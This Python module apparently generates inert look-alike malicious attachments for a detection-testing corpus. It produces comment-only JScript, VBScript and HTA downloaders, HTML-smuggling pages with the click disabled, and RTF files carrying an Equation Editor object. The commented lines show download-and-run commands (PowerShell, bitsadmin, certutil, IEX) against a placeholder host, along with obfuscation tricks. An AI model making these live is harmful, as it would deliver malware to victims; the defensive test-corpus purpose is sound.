"""payloads - inert look-alikes of what the campaigns attach: comment-only
downloader scripts (JScript, VBScript, HTA), HTML pages that would rebuild a file
from base64 (the click commented out, the payload a stub), and RTF documents with
an Equation Editor object (OLE1 header, a CFB start, the Equation CLSID, zeros)
written in several ways.  Used by gen-corpus.py.
"""

import formats as F
from formats import MARK


# ---------------------------------------------------------------- inert payloads


def js_downloader(rng, style):
    """A comment-only JScript look-alike of the Avaddon downloader, in STYLE."""
    tmp = "".join(str(rng.randrange(10)) for _ in range(9))
    body = {
        "plain": ("var sh = WScript.CreateObject(\"WScript.Shell\");\n"
                  "sh.Run(\"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile("
                  "'http://cdn.example.invalid/%s.exe', $env:TEMP + '\\\\%s.exe')\");\n"
                  "sh.Run(\"bitsadmin /transfer j http://cdn.example.invalid/%s.exe %%TEMP%%\\\\%s.exe\");\n"
                  % (tmp, tmp, tmp, tmp)),
        "split": ("var a = \"WScr\" + \"ipt.Sh\" + \"ell\", b = \"pow\" + \"ersh\" + \"ell\";\n"
                  "var o = new ActiveXObject(a); o[\"R\" + \"un\"](b + \" -enc \" + payload);\n"
                  "// payload fetches http://cdn.example.invalid/%s.bin into GetSpecialFolder(2)\n" % tmp),
        "charcode": ("var k = String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108);\n"
                     "var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", "
                     "\"http://cdn.example.invalid/%s\", false);\n"
                     "var s = new ActiveXObject(\"ADODB.Stream\"); s.SaveToFile(tmp + \"\\\\%s.exe\");\n"
                     "eval(\"new ActiveXObject(k).Run(tmp)\");\n" % (tmp, tmp)),
        "certutil": ("var w = new ActiveXObject(\"WScript.Shell\");\n"
                     "w.Run(\"certutil -urlcache -split -f http://cdn.example.invalid/%s.txt "
                     "%%TEMP%%\\\\%s.txt && certutil -decode %%TEMP%%\\\\%s.txt %%TEMP%%\\\\%s.exe\");\n"
                     % (tmp, tmp, tmp, tmp)),
    }[style]
    return ("// %s: comments only, nothing runs\n/*\n%s*/\n" % (MARK, body)).encode()


def vbs_downloader(rng):
    tmp = "".join(str(rng.randrange(10)) for _ in range(8))
    return ("' %s: comments only, nothing runs\n"
            "' Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.Open \"GET\", "
            "\"http://cdn.example.invalid/%s.exe\", False\n"
            "' Set s = CreateObject(\"ADODB.Stream\") : s.SaveToFile "
            "CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\%s.exe\"\n"
            "' CreateObject(\"WScript.Shell\").Run \"%%TEMP%%\\%s.exe\"\n" % (MARK, tmp, tmp, tmp)).encode()


def hta_downloader():
    return ("<html><head><!-- %s --><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"/>"
            "</head><body><script language=\"VBScript\">\n"
            "' CreateObject(\"WScript.Shell\").Run \"powershell -c IEX (New-Object Net.WebClient)"
            ".DownloadString('http://cdn.example.invalid/s.ps1')\"\n"
            "</script></body></html>\n" % MARK).encode()


STUB_B64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"


def smuggling_html(rng, idiom, payload_b64=None):
    """An HTML page that would rebuild a file from base64 in the browser (inert: the
    click is commented out and the payload is a stub)."""
    p = payload_b64 or (STUB_B64 + "A" * (8 * rng.randrange(60, 90)))
    name = "Remittance_%s.iso" % "".join(str(rng.randrange(10)) for _ in range(5))
    js = {
        "atob-blob": ("var b = atob(\"%s\"), u = new Uint8Array(b.length);\n"
                      "for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);\n"
                      "var a = document.createElement(\"a\");\n"
                      "a.href = URL.createObjectURL(new Blob([u], {type: \"application/octet-stream\"}));\n"
                      "a.download = \"%s\"; /* a.click(); */\n" % (p, name)),
        "mssave": ("var d = window.atob('%s');\nvar arr = new Uint8Array(d.length);\n"
                   "for (var j = 0; j < d.length; j++) { arr[j] = d.charCodeAt(j); }\n"
                   "var blob = new Blob([arr]);\n"
                   "if (window.navigator.msSaveOrOpenBlob) { /* window.navigator.msSaveOrOpenBlob"
                   "(blob, '%s'); */ }\n" % (p, name)),
        "uint8-from": ("const data = Uint8Array.from(atob(`%s`), c => c.charCodeAt(0));\n"
                       "const f = new File([data], '%s', {type: 'application/x-iso9660-image'});\n"
                       "const link = document.createElement('a');\n"
                       "link.setAttribute('href', window.URL.createObjectURL(f));\n"
                       "link.setAttribute('download', f.name);\n"
                       "// link.dispatchEvent(new MouseEvent('click'));\n" % (p, name)),
        "fetch-data": ("fetch('data:application/octet-stream;base64,%s')\n"
                       "  .then(r => r.blob())\n  .then(b => { const u = URL.createObjectURL(b);\n"
                       "    const e = document.getElementById('dl'); e.href = u; e.download = '%s';\n"
                       "    /* e.click(); */ });\n" % (p, name)),
        "reversed": ("var s = document.getElementById('d').textContent.split('').reverse().join('');\n"
                     "var raw = self['at' + 'ob'](s), n = raw.length, buf = new Uint8Array(n);\n"
                     "while (n--) buf[n] = raw.charCodeAt(n);\n"
                     "var url = URL['createObj' + 'ectURL'](new Blob([buf.buffer]));\n"
                     "var l = document.createElement('a'); l.href = url; l['down' + 'load'] = '%s';\n"
                     "document.body.appendChild(l); // l.click();\n" % name),
    }[idiom]
    hidden = ""
    if idiom == "reversed":
        hidden = "<div id=\"d\" style=\"display:none\">%s</div>\n" % p[::-1]
    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Document</title></head>\n"
            "<body><!-- %s -->\n<p>Loading your document, please wait...</p>\n"
            "<a id=\"dl\"></a>\n%s<script>\n%s</script></body></html>\n" % (MARK, hidden, js)).encode()


def equation_hex():
    """OLE1 header naming Equation.3 and a CFB start with the Equation CLSID, as hex."""
    cls = b"Equation.3\0"
    data = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + bytes.fromhex("3e000300feff0900")
            + b"\0" * 40 + "Root Entry".encode("utf-16-le") + b"\0" * 44
            + bytes.fromhex("02ce020000000000c000000000000046") + b"\0" * 64
            + MARK.encode())
    ole1 = (bytes.fromhex("01050000") + bytes.fromhex("02000000") + len(cls).to_bytes(4, "little")
            + cls + b"\0" * 8 + len(data).to_bytes(4, "little") + data)
    return ole1.hex()


def rtf_equation(rng, style, lure_lines):
    """An RTF with an Equation Editor object written in STYLE."""
    h = equation_hex()
    head = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}"
    cls = "{\\*\\objclass Equation.3}"
    text = "".join(F.rtf_escape(line) + "\\par\n" for line in lure_lines)
    if style == "tidy":
        obj = h
    elif style == "newlines":
        obj = "\n".join(h[i:i + rng.choice([32, 48, 64, 76])] for i in range(0, len(h), 64))
    elif style == "spaces-upper":
        obj = " ".join(h[i:i + 2] for i in range(0, len(h), 2)).upper()
    elif style == "control-words":
        parts = []
        for i in range(0, len(h), 2):
            parts.append(h[i:i + 2])
            if rng.randrange(6) == 0:
                parts.append(rng.choice(["{\\*\\mvx}", "\\'0d", " \r\n", "{\\*\\panose 0}", "\t"]))
        obj = "".join(parts).replace("\\'0d", "")
        cls = ""
    elif style == "late":
        obj = h
        text += "".join("Clause %d. Delivery, payment and warranty terms apply as agreed in the "
                        "framework contract between the parties.\\par\n" % i for i in range(1, 70))
    elif style == "no-rtf1":
        head = "{\\rtvpn\\ansi"
        obj = h
    else:
        raise ValueError(style)
    return ("%s\\f0\\fs20 %s%s\\par\n{\\object\\objemb\\objupdate%s\\objw380\\objh260"
            "{\\*\\objdata %s}{\\result {\\pict\\wmetafile8 0100}}}}\n" % (head, text, MARK, cls, obj)).encode()
